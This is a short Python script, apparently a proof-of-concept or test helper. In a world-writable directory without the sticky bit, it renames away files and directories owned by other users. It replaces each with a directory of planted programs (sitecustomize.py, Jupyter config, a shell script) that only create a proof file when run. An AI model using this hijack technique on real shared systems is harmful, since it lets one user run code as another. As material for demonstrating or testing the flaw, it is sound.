"""What a hostile user runs in a directory that everybody may write to, without its sticky bit.

renamer.py DIRECTORY PROOF: prints "ready"; until its input ends, whatever somebody else makes there
is renamed away, and a directory of hers takes its place, with programs and configurations that make
PROOF when they are run. Runs with Python 3.8.
"""

import contextlib
import os
import select
import shutil
import sys
from pathlib import Path

PROGRAMS = {
    "program": "#!/bin/sh\n: >{proof}\n",
    "jupyter_server_config.py": "open({proof!r}, 'w').close()\n",
    "sitecustomize.py": "open({proof!r}, 'w').close()\n",
    "module.py": "open({proof!r}, 'w').close()\n",
}


def taken(path, proof):
    """Hers in its place, as fast as that can be."""
    path.rename(path.with_name(f"taken-{path.name}"))
    path.mkdir()
    path.chmod(0o777)
    for inner in ("", ".ipython/profile_nbserver"):
        (path / inner).mkdir(parents=True, exist_ok=True)
        for name, text in PROGRAMS.items():
            (path / inner / name).write_text(text.format(proof=proof))
            (path / inner / name).chmod(0o755)


def main():
    os.umask(0)
    top, proof = Path(sys.argv[1]), sys.argv[2]
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.0005)[0]:
        for entry in os.scandir(top):
            with contextlib.suppress(OSError):
                hers = entry.stat(follow_symlinks=False).st_uid == os.getuid()
                if not hers and not entry.name.startswith("taken-"):
                    taken(Path(entry.path), proof)
    for entry in os.scandir(top):
        shutil.rmtree(entry.path, ignore_errors=True)


main()
